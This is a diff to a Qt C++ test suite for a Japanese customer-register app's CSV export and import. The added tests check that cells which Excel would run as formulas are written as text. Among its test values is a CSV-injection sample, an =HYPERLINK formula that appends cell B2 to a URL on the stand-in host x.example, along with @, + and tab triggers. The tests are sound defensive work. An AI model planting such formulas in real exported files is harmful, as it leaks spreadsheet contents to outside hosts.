@@ -3,7 +3,9 @@
 #include <QProcess>
 #include <QtTest>
 
+#include "app/demo_data.h"
 #include "app/table_csv.h"
+#include "customers/csv_import.h"
 #include "test_folder.h"
 
 namespace {
@@ -28,8 +30,13 @@ class TestExport : public QObject {
 private slots:
     void csv_bytes_data();
     void csv_bytes();
+    void round_trip_cells_data();
+    void round_trip_cells();
     void customers_round_trip_data();
     void customers_round_trip();
+    void demo_register_round_trip();
+    void export_heading_is_recognised_data();
+    void export_heading_is_recognised();
     void report_pdf_holds_grid();
 };
 
@@ -53,6 +60,52 @@ void TestExport::csv_bytes_data() {
         << QVector<QStringList>{{"㈱髙橋①", "～"}} << true
         << QByteArray("\x87\x8A\xFB\xFC\x8B\xB4\x87\x40,\x81\x60\r\n");
     QTest::newRow("Shift_JIS cannot hold it") << QVector<QStringList>{{"絵文字😀"}} << true << QByteArray();
+    // Texts from incoming mail that Excel would run are written as text; numbers stay numbers.
+    QTest::newRow("formulas kept as text")
+        << QVector<QStringList>{{"=HYPERLINK(\"http://x.example/?\"&B2,\"詳細\")", "-500"},
+                                {"+81-3-1234-5678", "@SUM(A1)"},
+                                {"\tタブ", "\r改行"},
+                                {"-", "-1,234.5"},
+                                {"+5", "'引用"}}
+        << false
+        << QByteArray(
+               "\xEF\xBB\xBF"
+               "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"詳細\"\")\",-500\r\n"
+               "'+81-3-1234-5678,'@SUM(A1)\r\n"
+               "'\tタブ,\"'\r改行\"\r\n"
+               "'-,\"-1,234.5\"\r\n"
+               "+5,'引用\r\n");
+}
+
+// The protection of files read back by the import: exactly one apostrophe more where Excel would see
+// a formula or an apostrophe, and exactly that one taken away again.
+void TestExport::round_trip_cells_data() {
+    QTest::addColumn<QString>("value");
+    QTest::addColumn<QString>("written");
+    QTest::newRow("formula") << "=1+1"
+                             << "'=1+1";
+    QTest::newRow("at sign") << "@部長"
+                             << "'@部長";
+    QTest::newRow("phone with plus") << "+81-3-1234"
+                                     << "'+81-3-1234";
+    QTest::newRow("negative number") << "-500"
+                                     << "-500";
+    QTest::newRow("apostrophe of its own") << "'=abc"
+                                           << "''=abc";
+    QTest::newRow("apostrophe alone") << "'"
+                                      << "''";
+    QTest::newRow("plain text") << "山田商事"
+                                << "山田商事";
+    QTest::newRow("empty") << ""
+                           << "";
+}
+
+void TestExport::round_trip_cells() {
+    QFETCH(QString, value);
+    QFETCH(QString, written);
+    QCOMPARE(round_trip_cell(value), written);
+    QCOMPARE(read_back_cell(written), value);
+    QCOMPARE(excel_text_cell(written), written);  // the file's own protection adds nothing more
 }
 
 void TestExport::csv_bytes() {
@@ -92,6 +145,11 @@ void TestExport::customers_round_trip() {
                                ",'','','','','y@x.jp','山田',"
                                "'やまだ','')")
                     .arg(kColumns));
+    // Made from mail: no reading, no Email, texts that Excel would run.
+    source.exec(
+        QStringLiteral("insert into 顧客 (%1) values ('=HYPERLINK(\"http://x.example/\",\"詳細\")','',"
+                       "'','','','@本社','+81-3-1234-5678','-500','','','''=引用','','-')")
+            .arg(kColumns));
     source.db().close();
     QString output;
     QCOMPARE(
@@ -111,10 +169,117 @@ void TestExport::customers_round_trip() {
     target.reload();
     const ResultTable before = source.rows(select, 13);
     const ResultTable after = target.rows(select, 13);
-    QCOMPARE(after.row_count(), 2);
-    for (int r = 1; r <= 2; ++r)
+    QCOMPARE(after.row_count(), 3);
+    for (int r = 1; r <= 3; ++r)
         for (int c = 0; c < 13; ++c)
             QCOMPARE(after(c, r), before(c, r));
+    // Opened in Excel, no value of the file is a formula.
+    QFile file(QDir(source.path()).filePath(QStringLiteral("c.csv")));
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray bytes = file.readAll();
+    QVERIFY(!bytes.contains("\"=") && !bytes.contains("\"+") && !bytes.contains("\"@"));
+}
+
+// The issue's own case: the demo register (a third of its customers without Email) exported and
+// imported into an empty folder gives every customer and goods row back.
+void TestExport::demo_register_round_trip() {
+    TestFolder source;
+    DemoOptions options;
+    options.as_of = QDate(2026, 12, 8);
+    generate_demo_data(source.db(), options);
+    QVERIFY(source.value("select count(*) from 顧客 where Email is null or Email=''").toInt() > 0);
+    source.db().close();
+    TestFolder target;
+    target.db().close();
+    QString output;
+    for (const QString& what : {QStringLiteral("customers"), QStringLiteral("goods")}) {
+        const QString file = what + QStringLiteral(".csv");
+        QCOMPARE(run_cli(source.path(), {QStringLiteral("export"), what, file}, &output), 0);
+        QVERIFY2(!output.contains(QStringLiteral("注意")), qPrintable(output));
+        QCOMPARE(run_cli(target.path(), {QStringLiteral("import"), what, QDir(source.path()).filePath(file)},
+                         &output),
+                 0);
+    }
+    source.reload();
+    target.reload();
+    // Empty texts come back empty (NULL and '' alike); numbers exactly, NULL as NULL.
+    QStringList texts;
+    for (const QString& c : kColumns.split(QLatin1Char(',')))
+        texts << QStringLiteral("coalesce(%1,'')").arg(c);
+    const QStringList selects{
+        QStringLiteral("select %1 from 顧客 order by 顧客ID").arg(texts.join(QLatin1Char(','))),
+        QStringLiteral(
+            "select 分類コード,coalesce(分類,''),coalesce(商品名,''),単価 from 商品 order by 商品ID")};
+    const int widths[] = {13, 4};
+    for (int i = 0; i < 2; ++i) {
+        const ResultTable before = source.rows(selects.at(i), widths[i]);
+        const ResultTable after = target.rows(selects.at(i), widths[i]);
+        QVERIFY(before.row_count() > 0);
+        QCOMPARE(after.row_count(), before.row_count());
+        for (int r = 1; r <= before.row_count(); ++r)
+            for (int c = 0; c < widths[i]; ++c)
+                QCOMPARE(after(c, r), before(c, r));
+    }
+}
+
+// The heading row marks the export's own files, which are taken back whole; other files keep every
+// check of the import.
+void TestExport::export_heading_is_recognised_data() {
+    QTest::addColumn<bool>("goods");
+    QTest::addColumn<QByteArray>("file");
+    QTest::addColumn<QString>("problem");  // empty: imported
+    QTest::addColumn<QString>("stored");   // the first record's columns as stored, "|" between
+    const QByteArray customer_heading =
+        "\"顧客名\",\"顧客名かな\",\"都道府県\",\"郵便番号1\",\"郵便番号2\",\"住所\",\"TEL\",\"FAX\","
+        "\"携帯\","
+        "\"Email\",\"担当者\",\"担当者かな\",\"備考\"\r\n";
+    const QByteArray customer =
+        "\"\",\"\",\"\",\"\",\"\",\"'=1+1\",\"\",\"\",\"\",\"\",\"\",\"\",\"''x\"\r\n";
+    QTest::newRow("exported customer without name, reading or Email")
+        << false << customer_heading + customer << ""
+        << "||'x|=1+1";
+    QTest::newRow("the same record without the heading") << false << customer << "顧客名エラー"
+                                                         << "";
+    QTest::newRow("another heading is a record")
+        << false << QByteArray(customer_heading).replace("Email", "メール") + customer << "かなエラー"
+        << "";
+    const QByteArray goods_heading = "\"分類コード\",\"分類\",\"商品名\",\"単価\"\r\n";
+    QTest::newRow("exported goods without price")
+        << true << goods_heading + "\"3\",\"家具\",\"'-試作\",\"\"\r\n"
+        << ""
+        << "3|家具|-試作|-";
+    QTest::newRow("exported goods with a price that is no number")
+        << true << goods_heading + "\"3\",\"家具\",\"椅子\",\"高い\"\r\n"
+        << "分類コードまたが単価が不正です"
+        << "";
+    QTest::newRow("goods without the heading")
+        << true << QByteArray("3,家具,椅子,\r\n") << "分類コードまたが単価が不正です"
+        << "";
+}
+
+void TestExport::export_heading_is_recognised() {
+    QFETCH(bool, goods);
+    QFETCH(QByteArray, file);
+    QFETCH(QString, problem);
+    QFETCH(QString, stored);
+    TestFolder folder;
+    const QString path = QDir(folder.path()).filePath(QStringLiteral("in.csv"));
+    QFile out(path);
+    QVERIFY(out.open(QIODevice::WriteOnly) && out.write(file) == file.size());
+    out.close();
+    const CsvResult result =
+        goods ? import_goods_csv(folder.db(), path) : import_customer_csv(folder.db(), path);
+    QVERIFY2(result.ok == problem.isEmpty() && result.message.contains(problem), qPrintable(result.message));
+    if (!result.ok) {
+        QCOMPARE(folder.count(goods ? QStringLiteral("商品") : QStringLiteral("顧客")), 0);
+        return;
+    }
+    QCOMPARE(result.count, 1);
+    const QString select = goods ? QStringLiteral("select 分類コード,分類,商品名,単価 from 商品")
+                                 : QStringLiteral("select 顧客名,Email,備考,住所 from 顧客");
+    const ResultTable rows = folder.rows(select, 4);
+    QCOMPARE(rows.row_count(), 1);
+    QCOMPARE((QStringList{rows(0, 1), rows(1, 1), rows(2, 1), rows(3, 1)}).join(QLatin1Char('|')), stored);
 }
 
 // A scheduled report as PDF: the text of the page holds the grid's headings and the first customer.
@@ -136,8 +301,7 @@ void TestExport::report_pdf_holds_grid() {
                {QStringLiteral("-layout"), QDir(folder.path()).filePath(QStringLiteral("r.pdf")),
                 QStringLiteral("-")});
     QVERIFY(text.waitForFinished(60000));
-    // Qt's PDF text map gives kanji that are also radicals (一, 金) as the radical: NFKC reads them back.
-    const QString page = QString::fromUtf8(text.readAllStandardOutput()).normalized(QString::NormalizationForm_KC);
+    const QString page = QString::fromUtf8(text.readAllStandardOutput());
     QVERIFY2(page.contains(QRegularExpression(QStringLiteral("顧客ID\\s+顧客名\\s+総合\\s+R\\s+F\\s+M"))),
              qPrintable(page));
     QVERIFY2(page.contains(QStringLiteral("株式会社みどり")), qPrintable(page));
